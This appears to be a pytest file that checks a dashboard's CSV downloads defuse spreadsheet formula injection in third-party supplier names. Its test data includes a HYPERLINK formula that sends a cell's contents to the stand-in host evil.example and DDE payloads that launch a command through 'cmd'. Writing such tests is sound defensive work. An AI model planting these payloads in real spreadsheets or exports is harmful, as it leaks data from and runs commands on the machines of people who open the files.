"""CSV (formula) injection: supplier names written by third parties come back from every CSV the
app serves as text a spreadsheet shows, never as a live formula; numbers stay numbers; the
warehouse and the public file keep the text as published."""

from __future__ import annotations

import csv
import io
import shutil

import duckdb
import pandas as pd
import pytest
import requests

from dashboard import downloads, spreadsheet
from tests.conftest import start_gunicorn, stop
from warehouse import load
from warehouse.demo import SPEND_HEADER
from warehouse.publish import publish

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")


def _live_formula(cell: str) -> bool:
    """True when a spreadsheet could read ``cell`` as a formula (it starts with a trigger,
    possibly after whitespace a spreadsheet may trim)."""
    try:
        float(cell)
        return False  # a number: a spreadsheet reads it as that number
    except ValueError:
        return cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text_with_nothing_removed(value):
    safe = spreadsheet.safe_cell(value)
    assert safe == "'" + value  # the quote in front, the original text kept whole after it


@pytest.mark.parametrize("value", ["Silver Lunch Trust", "A-1 Cleaning", "", "O'Brien & Co"])
def test_ordinary_text_is_unchanged(value):
    assert spreadsheet.safe_cell(value) == value


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"supplier": ["=1+1", "-12.5", "Acme"], "amount": [-2.0, 3.5, -7.25],
                          "count": [-1, 2, 3]})
    rows = list(csv.DictReader(io.StringIO(spreadsheet.to_csv(frame))))
    assert [r["supplier"] for r in rows] == ["'=1+1", "-12.5", "Acme"]
    assert [float(r["amount"]) for r in rows] == [-2.0, 3.5, -7.25]
    assert [int(r["count"]) for r in rows] == [-1, 2, 3]


def test_every_registered_download_writes_safe_cells(app, monkeypatch):
    """Each /download/<name>.csv goes through the same writer: a table full of formulas comes
    out as text whatever the dataset."""
    poison = pd.DataFrame({"text": FORMULAS, "amount": [-1.5] * len(FORMULAS)})
    assert downloads.DATASETS, "no downloads registered"
    client = app.test_client()
    for name in list(downloads.DATASETS):
        monkeypatch.setitem(downloads.DATASETS, name, downloads.Dataset(
            name, (), lambda: poison, lambda: {}))
        r = client.get(f"/download/{name}.csv")
        assert r.status_code == 200, name
        cells = _cells(r.get_data(as_text=True))
        assert not [c for c in cells if _live_formula(c)], name
        assert cells.count("-1.5") == len(FORMULAS), name  # numbers are not quoted


@pytest.fixture(scope="module")
def poisoned(warehouse_file, demo_source, tmp_path_factory):
    """The demo warehouse with one spend file of formula-named suppliers loaded through
    ``warehouse load spend``, and its public file."""
    folder = tmp_path_factory.mktemp("poisoned")
    target = folder / "warehouse.duckdb"
    shutil.copyfile(warehouse_file, target)
    with open(demo_source / "spend" / "spend_over_500_2024-25.csv", encoding="utf-8") as fh:
        template = next(csv.DictReader(fh))
    rows = []
    for i, name in enumerate(FORMULAS):
        row = dict(template, **{"Supplier Name": name, "Net Amount": f"{9_000_000 + i}.00",
                                "Transaction Number": f"POISON{i:04d}",
                                "Expenses Type": template["Expenses Type"]})
        rows.append(row)
    spend = folder / "spend_poison.csv"
    with open(spend, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, SPEND_HEADER, lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    assert load.run("spend", [spend], target=target) == 0
    con = duckdb.connect(str(target), read_only=True)
    try:
        service, stored = con.execute(
            "select service_code, list(supplier_name) from spend "
            "where transaction_ref like 'POISON%' group by service_code").fetchall()[0]
    finally:
        con.close()
    public = publish(target, folder / "public.duckdb")
    return {"internal": target, "public": public, "service": service, "stored": stored}


def test_the_warehouse_keeps_the_text_as_published(poisoned):
    # what the loader keeps is its own business (issue 15); what matters here is that every
    # formula arrived and that the app did not rewrite it in the warehouse
    assert len(poisoned["stored"]) == len(FORMULAS)
    assert not any(s.startswith("'") for s in poisoned["stored"])
    con = duckdb.connect(str(poisoned["public"]), read_only=True)
    try:
        public = con.execute("select count(*) from spend "
                             "where transaction_ref like 'POISON%'").fetchone()[0]
    finally:
        con.close()
    assert public == len(FORMULAS)


@pytest.mark.parametrize("mode", ["internal", "public"])
def test_formula_suppliers_come_back_as_text_from_every_supplier_download(poisoned, mode):
    proc, url = start_gunicorn(poisoned[mode], mode=mode)
    try:
        got = []
        r = requests.get(f"{url}/download/service-suppliers.csv",
                         params={"service": poisoned["service"], "year": "2024/25"}, timeout=30)
        assert r.status_code == 200, r.text[:300]
        got.append(r.text)
        r = requests.get(f"{url}/api/v1/datasets/supplier-spend.csv", timeout=60)
        assert r.status_code == 200, r.text[:300]
        got.append(r.text)
        r = requests.get(f"{url}/api/v1/datasets/supplier-spend",
                         params={"service_code": poisoned["service"], "limit": 1000}, timeout=30)
        names = {row["supplier_name"] for row in r.json()["rows"]}
        assert set(poisoned["stored"]) <= names  # JSON: the text as published, unchanged
    finally:
        stop(proc)
    for text in got:
        cells = _cells(text)
        assert not [c for c in cells if _live_formula(c)]
        for stored in poisoned["stored"]:
            assert "'" + stored in cells  # every one there, quoted, nothing removed
